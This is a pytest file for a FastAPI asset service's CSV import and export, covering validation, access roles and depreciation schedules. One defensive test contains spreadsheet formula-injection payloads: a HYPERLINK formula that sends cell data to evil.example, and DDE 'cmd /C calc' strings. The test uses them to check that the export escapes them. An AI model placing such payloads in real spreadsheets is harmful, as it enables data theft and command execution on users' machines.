"""CSV import (all rows or none, every bad row reported) and export (the same columns, filtered)."""

import csv
import io
import math
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import httpx
from fastapi import FastAPI
from sqlalchemy import event, select
from sqlalchemy.ext.asyncio import AsyncConnection

from asset_service.db.events import EVENTS
from asset_service.services.assets import CREATE_SLICE
from asset_service.services.depreciation import build_schedule

from .conftest import API, Factory, Staff, cents, money, today

ASSETS = f"{API}/assets"
IMPORT = f"{ASSETS}/import"
EXPORT = f"{ASSETS}/export"
IMPORT_COLUMNS = [
    "asset_tag",
    "name",
    "serial_number",
    "category_code",
    "location",
    "purchase_date",
    "purchase_cost",
    "salvage_value",
    "currency",
    "useful_life_months",
    "depreciation_method",
    "declining_rate",
    "notes",
]
EXPORT_COLUMNS = [*IMPORT_COLUMNS, "id", "status", "assigned_employee_id", "book_value"]
REQUIRED = ["name", "category_code", "purchase_date", "purchase_cost"]
TOOL_ROW = {"category_code": "TOOL", "purchase_date": "2024-01-01", "purchase_cost": "10.00"}


def to_csv(rows: list[dict[str, Any]], columns: list[str] | None = None) -> bytes:
    columns = columns or list(rows[0])
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return out.getvalue().encode()


async def upload(
    client: httpx.AsyncClient, headers: dict[str, str], content: bytes
) -> httpx.Response:
    return await client.post(
        IMPORT, files={"file": ("assets.csv", content, "text/csv")}, headers=headers
    )


async def count(client: httpx.AsyncClient, headers: dict[str, str]) -> int:
    response = await client.get(ASSETS, params={"limit": 1}, headers=headers)
    assert response.status_code == 200, response.text
    return int(response.json()["total"])


def errors_of(response: httpx.Response) -> list[tuple[int, str]]:
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["code"] == "invalid_csv", body
    assert body["detail"]
    for error in body["errors"]:
        assert error["message"], error
    return sorted((error["row"], error["field"]) for error in body["errors"])


async def test_a_good_file_imports_every_row_with_the_usual_defaults(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory
) -> None:
    laptops = await make.category(code="LAPTOP", default_useful_life_months=36)
    await make.category(code="VAN", default_useful_life_months=96, default_salvage_percent="20")
    content = to_csv(
        [
            {
                "name": "Dell XPS",
                "category_code": "LAPTOP",
                "purchase_date": "2024-04-02",
                "purchase_cost": "1899.00",
            },
            {
                "name": "Ford Transit",
                "category_code": "van",
                "purchase_date": "2022-09-30",
                "purchase_cost": "32500.50",
                "asset_tag": "VAN-7",
                "serial_number": "WF0XXX",
                "location": "Depot",
                "currency": "GBP",
                "useful_life_months": "60",
                "depreciation_method": "declining_balance",
                "declining_rate": "30",
                "salvage_value": "",
                "notes": 'Lease buy-out, "as is"',
            },
            {
                "name": "Monitor, 27 inch",
                "category_code": "LAPTOP",
                "purchase_date": "2023-01-01",
                "purchase_cost": "240",
                "salvage_value": "0",
                "asset_tag": "",
            },
        ],
        columns=[
            "name",
            "category_code",
            "purchase_date",
            "purchase_cost",
            "asset_tag",
            "serial_number",
            "location",
            "currency",
            "useful_life_months",
            "depreciation_method",
            "declining_rate",
            "salvage_value",
            "notes",
        ],
    )

    response = await upload(client, manager, content)

    assert response.status_code == 201, response.text
    body = response.json()
    assert body["imported"] == 3
    assert len(body["ids"]) == 3
    dell, van, monitor = [
        (await client.get(f"{ASSETS}/{asset_id}", headers=manager)).json()
        for asset_id in body["ids"]
    ]
    assert dell["name"] == "Dell XPS"
    assert dell["category_id"] == laptops["id"]
    assert dell["currency"] == "EUR"
    assert dell["useful_life_months"] == 36
    assert dell["depreciation_method"] == "straight_line"
    assert money(dell["salvage_value"]) == cents(Decimal("1899.00") * Decimal("0.10"))
    assert dell["asset_tag"].startswith("AST-")
    assert dell["status"] == "in_stock"
    assert van["asset_tag"] == "VAN-7"
    assert van["currency"] == "GBP"
    assert van["useful_life_months"] == 60
    assert Decimal(van["declining_rate"]) == 30
    assert money(van["salvage_value"]) == cents(Decimal("32500.50") * Decimal("0.20"))
    assert van["notes"] == 'Lease buy-out, "as is"'
    assert van["location"] == "Depot"
    assert monitor["name"] == "Monitor, 27 inch"
    assert money(monitor["salvage_value"]) == 0
    assert monitor["asset_tag"].startswith("AST-")
    schedule = (await client.get(f"{ASSETS}/{van['id']}/depreciation", headers=manager)).json()
    assert len(schedule["items"]) == 60


async def test_a_file_with_bad_rows_imports_nothing_and_reports_every_bad_row(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory
) -> None:
    await make.category(code="TOOL")
    await make.asset(asset_tag="TAKEN-1")
    before = await count(client, manager)
    good = {"name": "Drill", "category_code": "TOOL", "purchase_date": "2024-01-01"}
    rows = [
        {**good, "purchase_cost": "100"},  # line 2
        {**good, "purchase_cost": "-5"},  # line 3: negative cost
        {**good, "purchase_cost": "200"},  # line 4
        {**good, "purchase_cost": "300", "category_code": "NOPE"},  # line 5: unknown category
    ]

    response = await upload(client, manager, to_csv(rows))

    assert errors_of(response) == [(3, "purchase_cost"), (5, "category_code")]
    assert await count(client, manager) == before


async def test_each_kind_of_bad_value_is_reported_on_its_own_line(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory
) -> None:
    await make.category(code="TOOL")
    await make.asset(asset_tag="TAKEN-1")
    before = await count(client, manager)
    ok = {
        "asset_tag": "",
        "name": "Saw",
        "category_code": "TOOL",
        "purchase_date": "2024-01-01",
        "purchase_cost": "100.00",
        "salvage_value": "",
        "currency": "",
        "useful_life_months": "",
        "depreciation_method": "",
        "declining_rate": "",
    }
    cases = [
        ({}, None),
        ({"name": ""}, "name"),
        ({"purchase_cost": "abc"}, "purchase_cost"),
        ({"purchase_cost": ""}, "purchase_cost"),
        ({"salvage_value": "100.01"}, "salvage_value"),
        ({"purchase_date": (today() + timedelta(days=2)).isoformat()}, "purchase_date"),
        ({"purchase_date": "01/02/2024"}, "purchase_date"),
        ({"currency": "ZZZ"}, "currency"),
        ({"useful_life_months": "0"}, "useful_life_months"),
        ({"useful_life_months": "twelve"}, "useful_life_months"),
        ({"depreciation_method": "magic"}, "depreciation_method"),
        ({"depreciation_method": "declining_balance"}, "declining_rate"),
        ({"declining_rate": "20"}, "declining_rate"),
        ({"asset_tag": "TAKEN-1"}, "asset_tag"),
    ]
    rows = [{**ok, **change} for change, _ in cases]

    response = await upload(client, manager, to_csv(rows))

    expected = sorted((line, field) for line, (_, field) in enumerate(cases, start=2) if field)
    assert errors_of(response) == expected
    assert await count(client, manager) == before


async def test_a_malformed_file_is_refused(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory
) -> None:
    await make.category(code="TOOL")
    before = await count(client, manager)
    row = {"name": "Saw", "category_code": "TOOL", "purchase_date": "2024-01-01"}
    for content, why in (
        (to_csv([row]), "the required purchase_cost column is missing"),
        (to_csv([{**row, "purchase_cost": "1", "colour": "red"}]), "an unknown column"),
        (
            to_csv([{**row, "purchase_cost": "1"}]).replace(b"Saw", "Säge".encode("latin-1")),
            "latin-1",
        ),
        (b"", "an empty file"),
        (b"\xff\xfe\x00n\x00a\x00m\x00e", "UTF-16"),
        (to_csv([{**row, "purchase_cost": "1", "notes": "nul\x00"}]), "a NUL character"),
    ):
        response = await upload(client, manager, content)
        assert response.status_code == 422, (why, response.text)
        assert response.json()["code"] in ("invalid_csv", "validation_error"), why
        # The one 422 shape: detail lists the failing input (the file), never a bare string.
        detail = response.json()["detail"]
        assert isinstance(detail, list), (why, detail)
        assert all({"loc", "field", "msg", "type"} <= error.keys() for error in detail), why
        assert detail[0]["loc"][:2] == ["body", "file"], (why, detail)
    missing_file = await client.post(IMPORT, data={"other": "x"}, headers=manager)
    assert missing_file.status_code == 422
    assert await count(client, manager) == before


async def test_more_than_10000_rows_are_refused(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory
) -> None:
    await make.category(code="TOOL")
    line = b"Saw,TOOL,2024-01-01,1.00\n"
    content = b"name,category_code,purchase_date,purchase_cost\n" + line * 10_001
    response = await upload(client, manager, content)
    assert response.status_code == 422, response.text[:500]
    assert await count(client, manager) == 0


async def test_the_same_tag_twice_in_one_file_is_refused(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory
) -> None:
    await make.category(code="TOOL")
    row = {"name": "Saw", "category_code": "TOOL", "purchase_date": "2024-01-01"}
    content = to_csv(
        [
            {**row, "purchase_cost": "1", "asset_tag": "TWICE"},
            {**row, "purchase_cost": "2", "asset_tag": "OTHER"},
            {**row, "purchase_cost": "3", "asset_tag": "TWICE"},
        ]
    )
    errors = errors_of(await upload(client, manager, content))
    # The later row is the duplicate; reporting the first one as well is fine.
    assert (4, "asset_tag") in errors
    assert set(errors) <= {(2, "asset_tag"), (4, "asset_tag")}
    assert await count(client, manager) == 0


async def test_export_streams_the_filtered_assets_as_csv(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory, staff: Staff
) -> None:
    tools = await make.category(code="TOOL")
    cars = await make.category(code="CAR")
    saw = await make.asset(
        tools, name="Saw, circular", serial_number="S1", notes='say "hi"', location="Shed"
    )
    drill = await make.assign(await make.asset(tools, name="Drill"), staff.alice)
    car = await make.asset(cars, name="Car", currency="USD")

    response = await client.get(EXPORT, headers=manager)

    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    reader = csv.DictReader(io.StringIO(response.text))
    assert reader.fieldnames == EXPORT_COLUMNS
    rows = {int(row["id"]): row for row in reader}
    assert set(rows) == {saw["id"], drill["id"], car["id"]}
    exported = rows[saw["id"]]
    assert exported["name"] == "Saw, circular"
    assert exported["notes"] == 'say "hi"'
    assert exported["category_code"] == tools["code"]
    assert exported["asset_tag"] == saw["asset_tag"]
    assert exported["purchase_date"] == saw["purchase_date"]
    assert Decimal(exported["purchase_cost"]) == money(saw["purchase_cost"])
    assert Decimal(exported["salvage_value"]) == money(saw["salvage_value"])
    assert Decimal(exported["book_value"]) == money(saw["book_value"])
    assert exported["status"] == "in_stock"
    assert exported["assigned_employee_id"] == ""
    assert rows[drill["id"]]["assigned_employee_id"] == str(staff.alice["id"])
    assert rows[drill["id"]]["status"] == "assigned"
    assert rows[car["id"]]["currency"] == "USD"

    async def exported_ids(**params: Any) -> set[int]:
        raw = await client.get(EXPORT, params=params, headers=manager)
        assert raw.status_code == 200, raw.text
        return {int(row["id"]) for row in csv.DictReader(io.StringIO(raw.text))}

    assert await exported_ids(status="assigned") == {drill["id"]}
    assert await exported_ids(category_id=tools["id"]) == {saw["id"], drill["id"]}
    assert await exported_ids(assigned_employee_id=staff.alice["id"]) == {drill["id"]}
    assert await exported_ids(q="CIRCULAR") == {saw["id"]}
    assert await exported_ids(q="no such thing") == set()


async def test_an_export_can_be_imported_again(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory
) -> None:
    category = await make.category(code="ROUND")
    originals = [
        await make.asset(category, name="Plain", purchase_cost="100.00"),
        await make.asset(
            category,
            name='Declining, quoted "name"',
            purchase_cost="5000.00",
            salvage_value="250.00",
            depreciation_method="declining_balance",
            declining_rate="35",
            useful_life_months=48,
            currency="CHF",
            serial_number="SER-9",
            location="HQ",
            notes="line one",
        ),
    ]
    exported = await client.get(EXPORT, params={"category_id": category["id"]}, headers=manager)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    for row in rows:
        row["asset_tag"] = "RT-" + row["asset_tag"]

    response = await upload(client, manager, to_csv(rows, EXPORT_COLUMNS))

    assert response.status_code == 201, response.text
    assert response.json()["imported"] == len(originals)
    copies = {}
    for asset_id in response.json()["ids"]:
        copy = (await client.get(f"{ASSETS}/{asset_id}", headers=manager)).json()
        copies[copy["asset_tag"]] = copy
    for original in originals:
        copy = copies["RT-" + original["asset_tag"]]
        assert copy["id"] != original["id"]
        for field in (
            "name",
            "serial_number",
            "category_id",
            "location",
            "purchase_date",
            "purchase_cost",
            "salvage_value",
            "currency",
            "useful_life_months",
            "depreciation_method",
            "notes",
            "book_value",
        ):
            assert copy[field] == original[field], field
        assert (copy["declining_rate"] is None) == (original["declining_rate"] is None)
        if copy["declining_rate"] is not None:
            assert Decimal(copy["declining_rate"]) == Decimal(original["declining_rate"])
        assert copy["status"] == "in_stock"


async def test_export_quotes_text_a_spreadsheet_would_run_and_import_takes_the_quote_off(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory
) -> None:
    category = await make.category(code="INJECT")
    risky = await make.asset(
        category,
        name='=HYPERLINK("http://evil.example/?d="&A1,"Open")',
        serial_number="+cmd|' /C calc'!A0",
        location="-2+3",
        notes="@SUM(1+1)*cmd|' /C calc'!A0",
        purchase_cost="1200.00",
    )
    quoted = await make.asset(category, name="'=already quoted", notes="plain notes")
    text_fields = ("name", "serial_number", "location", "notes")

    exported = await client.get(EXPORT, params={"category_id": category["id"]}, headers=manager)

    assert exported.status_code == 200, exported.text
    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(exported.text))}
    for row in rows.values():
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    for field in text_fields:
        assert rows[risky["id"]][field] == "'" + risky[field], field
    assert rows[quoted["id"]]["name"] == "''=already quoted"
    assert rows[quoted["id"]]["notes"] == "plain notes"
    # Numbers are written as numbers: no quote in front of an amount or an id.
    assert Decimal(rows[risky["id"]]["purchase_cost"]) == Decimal("1200.00")
    assert Decimal(rows[risky["id"]]["book_value"]) == money(risky["book_value"])

    for row in rows.values():
        row["asset_tag"] = "RT-" + row["asset_tag"]
    response = await upload(client, manager, to_csv(list(rows.values()), EXPORT_COLUMNS))

    assert response.status_code == 201, response.text
    copies = {}
    for asset_id in response.json()["ids"]:
        copy = (await client.get(f"{ASSETS}/{asset_id}", headers=manager)).json()
        copies[copy["asset_tag"]] = copy
    for original in (risky, quoted):
        copy = copies["RT-" + original["asset_tag"]]
        for field in (*text_fields, "purchase_cost", "book_value"):
            assert copy[field] == original[field], field


async def test_csv_access(client: httpx.AsyncClient, tokens: Any, make: Factory) -> None:
    await make.category(code="TOOL")
    content = b"name,category_code,purchase_date,purchase_cost\nSaw,TOOL,2024-01-01,1.00\n"
    for role, export_status, import_status in (
        ("admin", 200, 201),
        ("asset_manager", 200, 201),
        ("accountant", 200, 403),
        ("hr_manager", 200, 403),
        ("employee", 403, 403),
    ):
        headers = tokens.headers(role, employee_id=1, sub=f"{role}-csv")
        assert (await client.get(EXPORT, headers=headers)).status_code == export_status, role
        assert (await upload(client, headers, content)).status_code == import_status, role
    assert (await client.get(EXPORT)).status_code == 401
    assert (await upload(client, {}, content)).status_code == 401


async def test_a_file_over_5_mb_is_refused(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory
) -> None:
    await make.category(code="TOOL")
    header = b"name,category_code,purchase_date,purchase_cost,notes\n"
    row = b"Saw,TOOL,2024-01-01,1.00," + b"n" * 1000 + b"\n"
    content = header + row * (5 * 1024 * 1024 // len(row) + 1)
    assert len(content) > 5 * 1024 * 1024
    response = await upload(client, manager, content)
    assert response.status_code in (413, 422), response.text[:300]
    assert await count(client, manager) == 0


async def test_an_import_hands_rows_to_current_employees_only(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory, staff: Staff
) -> None:
    await make.category(code="TOOL")
    rows = [
        {"name": "Drill", "assigned_employee_id": staff.alice["id"]},
        {"name": "Saw", "assigned_employee_id": staff.gone["id"]},  # terminated
        {"name": "Lathe", "assigned_employee_id": 2_000_000_000},  # nobody
        {"name": "File", "assigned_employee_id": "alice"},
        {"name": "Vice", "assigned_employee_id": ""},
    ]
    columns = [*REQUIRED, "assigned_employee_id"]
    content = to_csv([{**TOOL_ROW, **row} for row in rows], columns)

    refused = await upload(client, manager, content)

    assert errors_of(refused) == [
        (3, "assigned_employee_id"),
        (4, "assigned_employee_id"),
        (5, "assigned_employee_id"),
    ]
    messages = {error["row"]: error["message"] for error in refused.json()["errors"]}
    assert "left the company" in messages[3]
    assert "does not exist" in messages[4]
    assert await count(client, manager) == 0

    good = to_csv([{**TOOL_ROW, **row} for row in (rows[0], rows[4])], columns)
    imported = await upload(client, manager, good)
    assert imported.status_code == 201, imported.text
    drill_id, vice_id = imported.json()["ids"]
    drill = (await client.get(f"{ASSETS}/{drill_id}", headers=manager)).json()
    assert (drill["status"], drill["assigned_employee_id"]) == ("assigned", staff.alice["id"])
    [held] = (await client.get(f"{ASSETS}/{drill_id}/history", headers=manager)).json()["items"]
    assert (held["employee_id"], held["returned_at"]) == (staff.alice["id"], None)
    assert held["assigned_by"] == "asset-manager-tests"
    vice = (await client.get(f"{ASSETS}/{vice_id}", headers=manager)).json()
    assert (vice["status"], vice["assigned_employee_id"]) == ("in_stock", None)


async def test_ten_thousand_rows_import_with_one_event_each_written_one_insert_per_slice(
    app: FastAPI,
    client: httpx.AsyncClient,
    manager: dict[str, str],
    make: Factory,
    connection: AsyncConnection,
) -> None:
    await make.category(code="TOOL")
    # A one-month life keeps the schedules small: the events are what this test is about.
    content = to_csv(
        [{**TOOL_ROW, "name": f"Screwdriver {n}", "useful_life_months": 1} for n in range(10_000)],
        [*REQUIRED, "useful_life_months"],
    )
    inserts: list[str] = []

    def record(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if statement.lstrip().upper().startswith("INSERT INTO ASSET_SCHEMA.OUTBOX"):
            inserts.append(statement)

    engine = app.state.database.engine.sync_engine
    event.listen(engine, "before_cursor_execute", record)
    try:
        response = await upload(client, manager, content)
    finally:
        event.remove(engine, "before_cursor_execute", record)

    assert response.status_code == 201, response.text[:500]
    ids = response.json()["ids"]
    assert len(ids) == 10_000
    # The rows are created in slices (bounded memory), the events of a slice in one INSERT.
    assert len(inserts) == math.ceil(10_000 / CREATE_SLICE)
    outbox = EVENTS.outbox
    rows = (
        await connection.execute(
            select(outbox.c.type, outbox.c.subject, outbox.c.payload).order_by(outbox.c.id)
        )
    ).all()
    assert [row.subject for row in rows] == [str(i) for i in ids]
    assert {row.type for row in rows} == {"asset.created"}
    first = rows[0].payload["data"]
    assert (first["name"], first["status"], first["category_name"]) == (
        "Screwdriver 0",
        "in_stock",
        "Category 001",
    )


async def test_each_imported_asset_gets_the_schedule_the_engine_computes_for_it(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory
) -> None:
    await make.category(code="TOOL", default_useful_life_months=24, default_salvage_percent="10")
    # Rows that share every schedule input (one schedule, many assets) and rows that differ in
    # one input each, among them a declining method, yen and a purchase in the middle of a month.
    shared = {**TOOL_ROW, "purchase_cost": "1000.00"}
    variants = [
        {},
        {},
        {"purchase_cost": "999.99"},
        {"purchase_date": "2024-01-17"},
        {"useful_life_months": "1"},
        {"salvage_value": "0"},
        {"currency": "JPY", "purchase_cost": "120000", "salvage_value": "0"},
        {"depreciation_method": "declining_balance", "declining_rate": "35"},
        {"depreciation_method": "double_declining_balance", "useful_life_months": "60"},
        {},
    ]
    columns = [*REQUIRED, "salvage_value", "currency", "useful_life_months"]
    columns += ["depreciation_method", "declining_rate"]
    rows = [{**shared, "name": f"Tool {n}", **change} for n, change in enumerate(variants)]

    response = await upload(client, manager, to_csv(rows, columns))

    assert response.status_code == 201, response.text
    for asset_id in response.json()["ids"]:
        asset = (await client.get(f"{ASSETS}/{asset_id}", headers=manager)).json()
        answer = await client.get(f"{ASSETS}/{asset_id}/depreciation", headers=manager)
        stored = [
            (
                item["period_start"],
                item["period_end"],
                money(item["depreciation_amount"]),
                money(item["accumulated_depreciation"]),
                money(item["book_value"]),
            )
            for item in answer.json()["items"]
        ]
        expected = build_schedule(
            cost=money(asset["purchase_cost"]),
            salvage=money(asset["salvage_value"]),
            life_months=asset["useful_life_months"],
            start=date.fromisoformat(asset["purchase_date"]),
            method=asset["depreciation_method"],
            annual_rate=Decimal(asset["declining_rate"]) if asset["declining_rate"] else None,
            currency=asset["currency"],
        )
        assert stored == [
            (
                period.period_start.isoformat(),
                period.period_end.isoformat(),
                period.depreciation_amount,
                period.accumulated_depreciation,
                period.book_value,
            )
            for period in expected
        ], asset["name"]


async def test_a_bad_row_after_slices_were_written_still_imports_nothing(
    client: httpx.AsyncClient, manager: dict[str, str], make: Factory, connection: AsyncConnection
) -> None:
    # The import writes slice by slice while it checks the next one: a bad row two slices in
    # (after two slices went to the database) must still leave nothing behind, events included,
    # and the rows after it are still checked and reported.
    await make.category(code="TOOL")
    before = await count(client, manager)
    outbox = EVENTS.outbox
    events_before = len((await connection.execute(select(outbox.c.id))).all())
    rows = [{**TOOL_ROW, "name": f"Clamp {n}"} for n in range(2 * CREATE_SLICE + 500)]
    late = 2 * CREATE_SLICE + 100  # its line is late + 2
    rows[late] = {**rows[late], "purchase_cost": "-1"}
    rows[-1] = {**rows[-1], "category_code": "NOPE"}

    response = await upload(client, manager, to_csv(rows, REQUIRED))

    assert errors_of(response) == [(late + 2, "purchase_cost"), (len(rows) + 1, "category_code")]
    assert await count(client, manager) == before
    assert len((await connection.execute(select(outbox.c.id))).all()) == events_before
